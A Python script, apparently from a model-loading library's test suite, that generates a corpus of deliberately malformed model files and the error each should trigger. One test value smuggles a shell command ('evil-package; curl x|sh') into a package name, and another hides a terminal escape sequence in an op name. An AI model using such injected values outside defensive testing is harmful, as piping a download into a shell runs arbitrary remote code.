"""Regenerate the corpus of broken model files: ``python tests/core/fuzz_corpus/make_corpus.py``.

Each file is refused by ``nf.load`` with a CheckpointError whose message holds
the text recorded for it in ``expected.json``. They are named ``.bin``: the
repository ignores ``*.safetensors``. Files that test a check behind
the checksums (topology, shapes, ops) carry valid checksums, so it is that
check, not the checksum, that refuses them. Rerun after a format change.
"""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Any

import numpy as np

HERE = Path(__file__).parent


def raw_safetensors(header: Any, data: bytes = b"") -> bytes:
    """The bytes of a safetensors file with exactly this header and data (no checks: for broken files)."""
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


def _valid_parts() -> tuple[dict[str, np.ndarray], dict[str, str]]:
    import neuroflow as nf
    from neuroflow import ops
    from neuroflow.checkpoint.model_file import MODEL_FORMAT, model_payload

    nf.manual_seed(0)
    model = nf.Sequential(ops.Linear(4, 3), ops.Tanh())
    return model_payload(model, MODEL_FORMAT, None)


def _with_checksums(path: Path, tensors: dict[str, np.ndarray], meta: dict[str, str]) -> None:
    from neuroflow.checkpoint.model_file import write_model_file

    write_model_file(path, tensors, meta)


def _edit_topology(meta: dict[str, str], edit: Any) -> dict[str, str]:
    topology = json.loads(meta["topology"])
    edit(topology)
    return {**meta, "topology": json.dumps(topology)}


def make(folder: Path = HERE) -> dict[str, str]:
    """Write every corpus file into ``folder``; returns file name → expected message fragment."""
    expected: dict[str, str] = {}

    def put(name: str, content: bytes, message: str) -> None:
        (folder / name).write_bytes(content)
        expected[name] = message

    def put_checked(name: str, tensors: dict[str, np.ndarray], meta: dict[str, str], message: str) -> None:
        _with_checksums(folder / name, tensors, meta)
        expected[name] = message

    tensors, meta = _valid_parts()
    good = folder / "_valid.tmp"
    _with_checksums(good, tensors, meta)
    valid = good.read_bytes()
    good.unlink()
    length = struct.unpack("<Q", valid[:8])[0]
    header = json.loads(valid[8:8 + length])
    data = valid[8 + length:]

    # --- the container
    put("empty.bin", b"", "too short")
    put("seven_bytes.bin", b"\x01" * 7, "too short")
    put("header_length_huge.bin", struct.pack("<Q", 2**63) + valid[8:], "header length")
    put("header_length_past_end.bin", struct.pack("<Q", len(valid)) + valid[8:], "header length")
    put("header_not_json.bin", struct.pack("<Q", 6) + b"{nope}", "not valid JSON")
    put("header_not_utf8.bin", struct.pack("<Q", 4) + b'{"\xff"', "not UTF-8")
    put("header_is_list.bin", raw_safetensors([]), "expected an object")
    put("header_nested_deep.bin", struct.pack("<Q", 10_000) + b"[" * 5_000 + b"]" * 5_000,
        "not valid JSON")
    dup = json.dumps(header)[:-1] + ', "0.bias": ' + json.dumps(header["0.bias"]) + "}"
    put("duplicate_name.bin", struct.pack("<Q", len(dup)) + dup.encode() + data, "twice")
    put("dtype_unknown.bin", raw_safetensors({**header, "0.bias": {**header["0.bias"], "dtype": "Q4"}}, data),
        "dtype 'Q4'")
    put("shape_negative.bin",
        raw_safetensors({**header, "0.bias": {**header["0.bias"], "shape": [-3]}}, data), "shape [-3]")
    bias = header["0.bias"]["data_offsets"]
    put("offsets_wrong_size.bin",
        raw_safetensors({**header, "0.bias": {**header["0.bias"], "data_offsets": [bias[0], bias[1] + 4]}}, data),
        "needs 12 bytes")
    overlapping = {**header, "0.weight": {**header["0.weight"], "data_offsets": [0, 48]}}
    put("offsets_overlap.bin", raw_safetensors(overlapping, data), "overlaps")
    put("truncated.bin", valid[:-10], "truncated")
    put("appended.bin", valid + b"\x00" * 16, "truncated or was appended to")
    put("metadata_not_strings.bin", raw_safetensors({**header, "__metadata__": {"format": 1}}, data),
        "map strings to strings")

    # --- the model format
    plain = {name: spec for name, spec in header.items() if name != "__metadata__"}
    put("no_format_pytorch_like.bin", raw_safetensors(plain, data), "load_state_dict_file")
    put_checked("newer_format.bin", tensors, {**meta, "format_version": "2"}, "newer NeuroFlow")
    edited = json.dumps({**header, "__metadata__": {**meta, "checksums": header["__metadata__"]["checksums"],
                                                    "user": '{"x": 1}'}})
    put("metadata_edited.bin", struct.pack("<Q", len(edited)) + edited.encode() + data, "metadata checksum")
    flipped = bytearray(valid)
    flipped[-3] ^= 0x10
    put("data_bit_flipped.bin", bytes(flipped), "fails its checksum")
    put_checked("topology_not_json.bin", tensors, {**meta, "topology": "{"}, "'topology' is not valid JSON")

    def nest(topology: dict[str, Any]) -> None:
        node = topology["root"]
        for _ in range(100):
            node = {"type": "Sequential", "config": {}, "children": [node]}
        topology["root"] = node

    put_checked("topology_nested_deep.bin", tensors, _edit_topology(meta, nest), "nested deeper")

    def fancy(topology: dict[str, Any]) -> None:
        topology["root"]["children"][1]["type"] = "FancyConv"
        topology["ops"]["FancyConv"] = {"distribution": "neuroflow-ops-fancy", "version": "9.9"}

    put_checked("unknown_op.bin", tensors, _edit_topology(meta, fancy),
                "unknown op 'FancyConv' (no installed distribution provides it); the file says it comes from the "
                "distribution 'neuroflow-ops-fancy', which NeuroFlow does not know")

    def shell(topology: dict[str, Any]) -> None:
        topology["root"]["children"][1]["type"] = "FancyConv"
        topology["ops"]["FancyConv"] = {"distribution": "evil-package; curl x|sh", "version": "9.9"}

    put_checked("unknown_op_distribution_not_a_name.bin", tensors, _edit_topology(meta, shell),
                "the file names an invalid distribution 'evil-package; curl x|sh' for it, which cannot be installed")

    def escape(topology: dict[str, Any]) -> None:
        topology["root"]["children"][1]["type"] = "Tanh\x1b[2J"

    put_checked("op_type_escape.bin", tensors, _edit_topology(meta, escape),
                "op model.1 has type 'Tanh\\x1b[2J', which is not an op name")

    def mystery(topology: dict[str, Any]) -> None:
        topology["root"]["children"][1]["type"] = "Mystery"

    put_checked("unknown_op_no_distribution.bin", tensors, _edit_topology(meta, mystery), "unknown op 'Mystery'")

    def bad_config(topology: dict[str, Any]) -> None:
        topology["root"]["children"][0]["config"]["in_features"] = "four"

    put_checked("config_invalid.bin", tensors, _edit_topology(meta, bad_config), "cannot rebuild op model.0")

    def huge(topology: dict[str, Any]) -> None:
        topology["root"]["children"][0]["config"].update(in_features=200_000, out_features=100_000)

    put_checked("config_huge.bin", tensors, _edit_topology(meta, huge), "refusing to allocate")

    def childless(topology: dict[str, Any]) -> None:
        del topology["root"]["children"]

    put_checked("composite_without_children.bin", tensors, _edit_topology(meta, childless),
                "unexpected 0.bias, 0.weight")

    def leaf_with_children(topology: dict[str, Any]) -> None:
        topology["root"]["children"][1]["children"] = []

    put_checked("leaf_with_children.bin", tensors, _edit_topology(meta, leaf_with_children),
                "saved with child ops but has no child codec")

    def wider(topology: dict[str, Any]) -> None:
        topology["root"]["children"][0]["config"]["in_features"] = 5

    put_checked("shape_mismatch.bin", tensors, _edit_topology(meta, wider), "the model needs (3, 5)")
    put_checked("tensor_missing.bin", {k: v for k, v in tensors.items() if k != "0.bias"}, meta,
                "missing 0.bias")
    put_checked("tensor_unexpected.bin", {**tensors, "extra": np.zeros(2, np.float32)}, meta,
                "unexpected extra")
    put_checked("weight_stored_as_int.bin", {**tensors, "0.weight": np.zeros((3, 4), np.int32)}, meta,
                "stored as I32")
    put_checked("runtime_dtype_bad.bin", tensors, {**meta, "runtime": json.dumps({"dtype": "int8"})},
                "runtime dtype")
    quantized = {**tensors, "0.weight": np.zeros((3, 4), np.int8), "0.weight::scale": np.ones(4, np.float32)}
    put_checked("quantized_scale_shape.bin", quantized,
                {**meta, "quantization": json.dumps({"scheme": "int8", "weights": ["0.weight"]})},
                "F32 scales of shape (3,)")
    put_checked("quantization_unknown.bin", tensors,
                {**meta, "quantization": json.dumps({"scheme": "int4", "weights": []})}, "scheme 'int4'")
    put_checked("training_checkpoint_as_model.bin", tensors, {**meta, "format": "neuroflow.cats"},
                "format 'neuroflow.cats'")

    (folder / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


if __name__ == "__main__":
    written = make()
    print(f"wrote {len(written)} files to {HERE}")
